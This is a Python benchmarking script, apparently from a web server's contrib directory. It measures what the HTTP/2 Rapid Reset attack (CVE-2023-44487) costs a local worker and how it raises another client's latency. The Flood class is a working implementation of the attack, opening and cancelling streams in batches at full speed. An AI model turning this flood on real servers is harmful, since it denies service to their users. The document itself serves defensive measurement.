#!/usr/bin/python3
"""Rapid reset (CVE-2023-44487) figure: what a client opening and resetting
HTTP/2 streams at full speed costs a worker, and what it does to the
latency of another client.

One process floods: HEADERS (END_STREAM) then RST_STREAM(CANCEL) for
stream after stream, written in batches as fast as the socket takes them,
on a new connection whenever the server sends GOAWAY (what the server
answers to a flood). Meanwhile another client sends GET requests one after
the other on its own h2c connection and times each. The worker's CPU is
read from /proc/PID/stat (utime + stime) over each phase.

    contrib/h2_rapid_reset.py --port 8080 --worker PID [--seconds 10] [--path /]

The server: one worker, "listen 127.0.0.1:8080; http2 on;", a location
answering the path with a small response, "keepalive_requests" large
enough that the latency client's connection is not renewed (each renewal
counts as an error here). Prints, for a quiet phase and a flood phase of
--seconds each: the worker's CPU (% of one core), the latency client's
requests, p50 and p99, and for the flood the streams written, the
connections it needed and the GOAWAY codes it was sent (11:
ENHANCE_YOUR_CALM). The flood stops writing on a connection once it reads
GOAWAY; what it wrote before that and the server had not read is
discarded by the server's lingering close, so the count of streams is an
upper bound on those the server handled. A figure for a report, not a
test: nothing here is asserted.
"""
import argparse
import os
import socket
import struct
import threading
import time

import h2.config
import h2.connection
import h2.events

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ftype, flags, sid, payload):
    return struct.pack("!I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack("!I", sid) + payload


def cpu_ticks(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return int(fields[11]) + int(fields[12])  # utime, stime (fields 14, 15)


class Flood(threading.Thread):
    def __init__(self, port, path, host):
        super().__init__(daemon=True)
        self.port = port
        # HPACK without state: indexed :method GET and :scheme http, then
        # :path and :authority as literals without indexing.
        self.block = (b"\x82\x86" + b"\x04" + bytes([len(path)]) + path.encode() +
                      b"\x01" + bytes([len(host)]) + host.encode())
        self.stop = False
        self.streams = 0
        self.connections = 0
        self.goaways = {}  # error code: count

    def drain(self, sock, state):
        """Reads what the server sends; marks GOAWAY (the flood's end on
        this connection: what follows would go to a lingering close)."""
        buf = b""
        try:
            while True:
                data = sock.recv(65536)
                if not data:
                    break
                buf += data
                while len(buf) >= 9:
                    n = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + n:
                        break
                    if buf[3] == 7:  # GOAWAY
                        state["goaway"] = int.from_bytes(buf[13:17], "big")
                    buf = buf[9 + n:]
        except OSError:
            pass
        state["closed"] = True

    def run(self):
        while not self.stop:
            try:
                sock = socket.create_connection(("127.0.0.1", self.port), timeout=5)
            except OSError:
                time.sleep(0.01)
                continue
            self.connections += 1
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            state = {}
            reader = threading.Thread(target=self.drain, args=(sock, state), daemon=True)
            reader.start()
            try:
                sock.sendall(PREFACE + frame(4, 0, 0, b""))
                sid = 1
                while not self.stop and sid < 2**31 - 200 and not state:
                    batch = []
                    for _ in range(100):
                        batch.append(frame(1, 0x5, sid, self.block))
                        batch.append(frame(3, 0, sid, struct.pack("!I", 8)))  # CANCEL
                        sid += 2
                    sock.sendall(b"".join(batch))
                    self.streams += 100
            except OSError:
                pass  # closed: a new connection
            if "goaway" in state:
                self.goaways[state["goaway"]] = self.goaways.get(state["goaway"], 0) + 1
            sock.close()
            reader.join(timeout=1)


def latency_phase(port, path, host, seconds):
    cfg = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    lat = []
    errors = 0
    end = time.monotonic() + seconds
    conn = sock = None
    while time.monotonic() < end:
        if conn is None:
            sock = socket.create_connection(("127.0.0.1", port), timeout=5)
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            conn = h2.connection.H2Connection(config=cfg)
            conn.initiate_connection()
            sock.sendall(conn.data_to_send())
        t0 = time.monotonic()
        try:
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, [(":method", "GET"), (":scheme", "http"), (":authority", host),
                                    (":path", path)], end_stream=True)
            sock.sendall(conn.data_to_send())
            done = False
            while not done:
                data = sock.recv(65536)
                if not data:
                    raise OSError("closed")
                for e in conn.receive_data(data):
                    if isinstance(e, h2.events.DataReceived):
                        conn.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
                    if isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)) and e.stream_id == sid:
                        done = True
                out = conn.data_to_send()
                if out:
                    sock.sendall(out)
            lat.append(time.monotonic() - t0)
        except (OSError, h2.exceptions.ProtocolError):
            errors += 1
            sock.close()
            conn = None
    if sock:
        sock.close()
    return lat, errors


def pct(xs, p):
    xs = sorted(xs)
    return xs[min(len(xs) - 1, int(len(xs) * p))] if xs else float("nan")


def phase(args, flood):
    f = None
    if flood:
        f = Flood(args.port, args.path, args.host)
        f.start()
        time.sleep(0.5)  # the flood at full speed first
    hz = os.sysconf("SC_CLK_TCK")
    c0, t0 = cpu_ticks(args.worker), time.monotonic()
    lat, errors = latency_phase(args.port, args.path, args.host, args.seconds)
    c1, t1 = cpu_ticks(args.worker), time.monotonic()
    if f:
        f.stop = True
        f.join(timeout=5)
    cpu = 100.0 * (c1 - c0) / hz / (t1 - t0)
    name = "flood" if flood else "quiet"
    print(f"{name}: worker cpu {cpu:.0f}% of a core; latency client {len(lat)} requests, "
          f"p50 {pct(lat, 0.5) * 1000:.2f} ms, p99 {pct(lat, 0.99) * 1000:.2f} ms, errors {errors}"
          + (f"; flood: {f.streams} streams opened and reset on {f.connections} connections, "
             f"GOAWAY error codes {f.goaways}" if f else ""))


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--worker", type=int, required=True, help="the worker's pid")
    ap.add_argument("--seconds", type=float, default=10)
    ap.add_argument("--path", default="/")
    ap.add_argument("--host", default="localhost")
    args = ap.parse_args()
    phase(args, flood=False)
    phase(args, flood=True)


if __name__ == "__main__":
    main()
